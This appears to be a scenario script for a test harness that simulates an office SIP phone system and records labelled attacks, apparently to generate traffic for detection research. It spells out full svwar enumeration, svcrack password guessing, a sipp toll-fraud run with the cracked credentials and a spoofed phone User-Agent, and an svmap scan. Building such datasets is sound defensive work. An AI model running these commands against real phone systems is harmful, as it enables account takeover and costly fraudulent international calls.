# One host asks for extensions, guesses a password, calls abroad with it and scans the network at last.
relocate pbx.example.org 5060 10.214.8 198.18.19 203.0.113
EXTENSIONS=(3201 3202 3203 3204 3205 3206)
EXISTING='^32[0-1][0-9]$'
WEAK=3204
WEAK_PASSWORD=office123
open_office
add_attacker one 203.0.113.240
start_office_capture
keep_alive 16
office_day 407 108
at 8 attack A1 scan one 5071 "svwar asks for 3190 to 3219 by OPTIONS, five a second." \
    "$(version_of svwar)" svwar -b 203.0.113.240 -x 203.0.113.240 -P 5071 -t 0.2 -m OPTIONS -e 3190-3219 10.214.8.1
words | grep -v "^$WEAK_PASSWORD\$" | sed -n '22,76p' >"$scratch/words"
echo "$WEAK_PASSWORD" >>"$scratch/words"
at 22 attack A2 password_cracking one 5072 "svcrack tries words as passwords of 3204 until one is right." \
    "$(version_of svcrack)" svcrack -b 203.0.113.240 -x 203.0.113.240 -P 5072 -t 0.3 -u "$WEAK" -d "$scratch/words" 10.214.8.1
printf '%s\n' SEQUENTIAL '0023221001;' '0067510101;' '0023221002;' '0067510102;' '0023221003;' >"$scratch/numbers.csv"
sed 's/User-Agent: .*/User-Agent: Yealink SIP-T46S 66.86.0.15/' "$parts/sipp/fraud.xml" >"$scratch/fraud.xml"
at 52 attack A3 toll_fraud one 5073 "As 3204 the same host calls five numbers abroad, one per five seconds." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$scratch/fraud.xml" -nostdin -inf "$scratch/numbers.csv" \
    -i 203.0.113.240 -mi 203.0.113.240 -p 5073 -key user "$WEAK" -au "$WEAK" -ap "$WEAK_PASSWORD" -d 12000 \
    -r 1 -rp 5000 -m 5 -l 5 10.214.8.1:5060
echo "$WEAK toll_fraud" >>"$scratch/users"
for n in $(seq 1 26); do echo "10.214.8.$n"; done >"$scratch/addresses"
at 96 attack A4 scan one 5074 "At last svmap asks 26 addresses by OPTIONS, five a second." \
    "$(version_of svmap)" svmap -b 203.0.113.240 -x 203.0.113.240 -P 5074 -t 0.2 -I "$scratch/addresses"
play
wait_for A1 A2 A3 A4
close_office
expect_said A2 "$WEAK_PASSWORD"
